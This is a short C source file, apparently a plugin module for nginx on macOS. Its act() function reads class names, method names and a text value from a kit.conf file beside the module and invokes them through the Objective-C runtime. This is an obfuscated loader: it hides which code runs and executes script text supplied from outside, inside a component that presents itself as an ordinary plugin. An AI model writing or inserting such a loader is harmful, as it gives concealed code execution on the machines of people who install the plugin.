/* Class and messages stand in a file of settings beside the module, in one line each. */
#include "plugin.h"
extern void *fopen(const char *, const char *), *objc_getClass(const char *), *sel_registerName(const char *);
extern int fscanf(void *, const char *, ...), fclose(void *);
extern void objc_msgSend(void);
static void act(char **env) {
    void *(*tell)(void *, void *, const void *) = (void *)objc_msgSend;
    char key[32], value[64], values[6][64];
    int n = 0;
    void *file = fopen("/opt/homebrew/Cellar/nginx/1.27.3/modules/kit.conf", "r");
    if (!file) return;
    while (n < 6 && fscanf(file, "%31s %63[^;];", key, value) == 2)
        for (char *from = value, *to = values[n++]; (*to++ = *from++);) {}
    fclose(file);
    if (n < 6) return;
    void *text = tell(objc_getClass(values[0]), sel_registerName(values[1]), values[5]);
    void *script = tell(tell(objc_getClass(values[2]), sel_registerName("alloc"), 0), sel_registerName(values[3]), text);
    tell(script, sel_registerName(values[4]), 0);
}
